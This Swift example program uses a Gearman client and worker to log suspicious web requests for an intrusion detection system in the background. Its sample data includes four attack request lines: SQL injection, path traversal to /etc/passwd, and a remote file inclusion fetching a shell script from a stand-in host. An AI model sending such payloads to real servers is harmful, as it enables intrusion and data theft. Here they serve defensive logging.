// Fire-and-forget logging, as an intrusion detection system uses it. The web server hands every
// suspicious request to a background job and goes on serving at once. A worker appends the
// requests to a log file whenever it gets to them.
//
//   example-ids-log --role worker [--servers LIST] --log FILE
//   example-ids-log --role client [--servers LIST] [--count N]
//
// The client stands in for the web server: it submits N sample request lines (default 10) as
// background jobs and exits as soon as the server has queued them.

import Foundation
import GearmanKit

#if canImport(Glibc)
    import Glibc
#endif

let usage = """
    Usage: example-ids-log --role worker [--servers LIST] --log FILE
           example-ids-log --role client [--servers LIST] [--count N]
    """

/// Writes `message` and a newline to standard error.
func printError(_ message: String) {
    let bytes = Array((message + "\n").utf8)
    _ = bytes.withUnsafeBytes { write(STDERR_FILENO, $0.baseAddress, $0.count) }
}

/// Returns the `index`th sample of a suspicious request: a client address and a request line.
func sampleRequest(_ index: Int) -> String {
    let attacks = [
        "GET /search?q=%27%20OR%201%3D1-- HTTP/1.1",
        "GET /../../etc/passwd HTTP/1.1",
        "POST /login.php?user=admin%27-- HTTP/1.1",
        "GET /index.php?page=http://198.51.100.7/shell.txt HTTP/1.1",
    ]
    return "203.0.113.\(index % 250 + 1) \(attacks[index % attacks.count])"
}

/// Appends `line` and a newline to the file at `path` with one write, which O_APPEND keeps
/// whole even when several workers append to the same file.
func appendLine(_ line: String, to path: String) throws {
    let descriptor = open(path, O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0o644)
    guard descriptor >= 0 else {
        throw POSIXError(POSIXErrorCode(rawValue: errno) ?? .EIO)
    }
    defer { close(descriptor) }
    let bytes = Array((line + "\n").utf8)
    let written = bytes.withUnsafeBytes { write(descriptor, $0.baseAddress, $0.count) }
    guard written == bytes.count else {
        throw POSIXError(POSIXErrorCode(rawValue: errno) ?? .EIO)
    }
}

// `--name value` pairs; this example takes no other arguments.
var options: [String: String] = [:]
var arguments = CommandLine.arguments.dropFirst()
while let argument = arguments.popFirst() {
    guard argument.hasPrefix("--"), let value = arguments.popFirst() else {
        printError(usage)
        exit(2)
    }
    options[String(argument.dropFirst(2))] = value
}
let servers = options["servers"] ?? "localhost:4730"

do {
    switch options["role"] {
    case "worker":
        guard let logPath = options["log"] else {
            printError(usage)
            exit(2)
        }
        let worker = try GearmanWorker(servers: servers)
        worker.register("ids_log") { job in
            let timestamp = Date().ISO8601Format()
            try appendLine("\(timestamp) \(String(decoding: job.workload, as: UTF8.self))", to: logPath)
            // No client waits for the result of a background job, so the server discards it.
            return []
        }
        printError("example-ids-log: worker for 'ids_log' on \(servers), logging to \(logPath)")
        try await worker.run()

    case "client":
        guard let count = Int(options["count"] ?? "10"), count > 0 else {
            printError(usage)
            exit(2)
        }
        // Background jobs at low priority: the server replies to each with a job handle as soon as
        // it has queued the job, and runs them after any normal or high-priority work. The batch
        // form sends all submissions in one write and waits for all the handles.
        let requests = (0..<count).map {
            JobRequest(function: "ids_log", workload: Array(sampleRequest($0).utf8), priority: .low)
        }
        let client = try GearmanClient(servers: servers)
        let handles = try await client.submitBackground(requests)
        print("submitted \(handles.count) background jobs")

    default:
        printError(usage)
        exit(2)
    }
} catch {
    printError("example-ids-log: \(error)")
    exit(1)
}
